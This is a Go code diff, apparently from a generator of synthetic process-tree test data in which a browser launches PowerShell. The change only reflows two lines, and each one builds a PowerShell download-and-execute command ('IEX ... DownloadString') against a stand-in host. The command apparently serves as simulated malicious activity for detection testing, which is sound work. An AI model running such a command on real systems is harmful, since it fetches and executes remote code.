@@ -220,13 +220,15 @@ func scripts(t *tree, n int) {
 	t.start(start{subject: subject{at: begin, process: 100, image: shell},
 		line: "powershell", parent: browserNumber, parentImage: browser})
 	for i := range n {
-		t.script(spread(i, n), i, 1, 1, fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('https://cdn.example/%d.ps1')", i))
+		t.script(spread(i, n), i, 1, 1,
+			fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('https://cdn.example/%d.ps1')", i))
 	}
 }
 
 func parts(t *tree, n int) {
 	for i := range n {
-		t.script(spread(i, n), 1, i+1, n, fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('https://cdn.example/%d.ps1')\n", i))
+		t.script(spread(i, n), 1, i+1, n,
+			fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('https://cdn.example/%d.ps1')\n", i))
 	}
 }
 
